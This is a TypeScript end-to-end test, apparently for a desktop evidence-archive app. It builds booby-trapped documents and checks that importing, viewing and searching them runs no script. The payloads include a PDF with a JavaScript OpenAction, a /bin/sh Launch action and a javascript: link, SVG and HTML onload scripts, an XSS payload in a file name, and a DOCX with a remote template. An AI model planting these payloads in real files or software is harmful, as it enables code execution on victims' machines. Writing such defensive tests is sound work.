// Attack: documents with script in them — PDF actions, SVG and HTML as evidence, links and fields in a DOCX, an OFD with an address.
// The window shows what it can and runs nothing.
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { strToU8, zipSync } from 'fflate';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { callFromPage } from './bridge.ts';
import { expect, test } from './harness.ts';

const script = 'globalThis.pwned = true; fetch("https://example.invalid/")';

async function writeHostile(folder: string): Promise<readonly string[]> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([595, 842]);
  page.drawText('<script>globalThis.pwned = true</script> <img src=x onerror="globalThis.pwned = true">', { x: 20, y: 700, size: 8 });
  const action = (kind: string, more: object) => pdf.context.obj({ Type: 'Action', S: kind, ...more });
  pdf.catalog.set(PDFName.of('OpenAction'), action('JavaScript', { JS: PDFString.of(`app.alert(1); ${script}`) }));
  page.node.set(PDFName.of('AA'), pdf.context.obj({ O: action('URI', { URI: PDFString.of('https://example.invalid/') }), C: action('Launch', { F: PDFString.of('/bin/sh') }) }));
  page.node.set(
    PDFName.of('Annots'),
    pdf.context.obj([
      pdf.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 595, 842], A: action('URI', { URI: PDFString.of('javascript:globalThis.pwned=true') }) }),
      pdf.context.obj({ Type: 'Annot', Subtype: 'Widget', FT: 'Tx', T: PDFString.of('x'), Rect: [0, 0, 100, 100], AA: { K: action('JavaScript', { JS: PDFString.of(script) }) } }),
    ]),
  );
  const word = (body: string): Uint8Array =>
    zipSync({
      '[Content_Types].xml': strToU8('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'),
      '_rels/.rels': strToU8('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'),
      'word/_rels/document.xml.rels': strToU8('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://example.invalid/x.dotm" TargetMode="External"/><Relationship Id="h" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="javascript:pwned" TargetMode="External"/></Relationships>'),
      'word/document.xml': strToU8(`<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${body}</w:t></w:r></w:p></w:body></w:document>`),
    });
  const files: readonly (readonly [string, string | Uint8Array])[] = [
    ['动作.pdf', await pdf.save()],
    ['图.svg', `<svg xmlns="http://www.w3.org/2000/svg" onload="${script.replaceAll('"', '&quot;')}"><script>${script}</script></svg>`],
    ['页.html', `<html><body onload='${script}'><script>${script}</script></body></html>`],
    ['<img src=x onerror=globalThis.pwned=true>.txt', `<script>${script}</script>`],
    ['文.docx', word('&lt;script&gt;globalThis.pwned=true&lt;/script&gt;')],
  ];
  for (const [name, content] of files) await writeFile(join(folder, name), content);
  return files.map(([name]) => join(folder, name));
}

test('hostile documents are taken in or refused, shown, searched, and run nothing', async ({ open }) => {
  const { page, app, folder } = open;
  const paths = await writeHostile(folder);
  let asked = 0;
  page.on('dialog', (dialog) => {
    asked += 1;
    void dialog.dismiss();
  });
  const [builtin] = await callFromPage(page, 'catalog.builtin', {});
  await callFromPage(page, 'archive.create', { folder: join(folder, '攻击.cdarchive'), from: { kind: 'builtin', id: builtin?.id ?? '' } });
  const { imported, rejected } = await callFromPage(page, 'evidence.import', { jobId: 'hostile', paths: [...paths], indicator: null, year: null });
  expect(imported.length + rejected.length).toBe(paths.length);
  expect(imported.map((item) => item.file)).toEqual(expect.arrayContaining([paths[0], paths[3]]));
  await page.reload();
  await expect(page.getByTestId('workbench')).toBeVisible();
  await page.getByTestId('nav-inbox').click();
  await expect(page.getByTestId('inbox-page')).toBeVisible();

  for (const { id } of imported) {
    // As a page of its own, as a frame, as an image, as a script: evidence is bytes.
    const outcome = await page.evaluate(async (wanted) => {
      const answer = await fetch(`/evidence/${wanted}`);
      const frame = document.createElement('iframe');
      frame.src = `/evidence/${wanted}`;
      document.body.append(frame);
      const runner = document.createElement('script');
      runner.src = `/evidence/${wanted}`;
      const ran = await new Promise((resolve) => {
        runner.addEventListener('load', () => resolve('ran'));
        runner.addEventListener('error', () => resolve('refused'));
        document.head.append(runner);
      });
      frame.remove();
      runner.remove();
      return { ran, policy: answer.headers.get('Content-Security-Policy'), sniff: answer.headers.get('X-Content-Type-Options'), type: answer.headers.get('Content-Type') };
    }, id);
    expect(outcome).toMatchObject({ ran: 'refused', policy: "default-src 'none'; sandbox", sniff: 'nosniff' });
    expect(outcome.type).not.toMatch(/html|svg|xml|script/);
  }
  await page.getByTestId('nav-search').click();
  await callFromPage(page, 'search.query', { text: '<script>' });
  expect(await page.evaluate(() => typeof Reflect.get(globalThis, 'pwned'))).toBe('undefined');
  expect(asked).toBe(0);
  expect(page.url()).toMatch(/^app:\/\/chuangdang\/index\.html/);
  expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
});
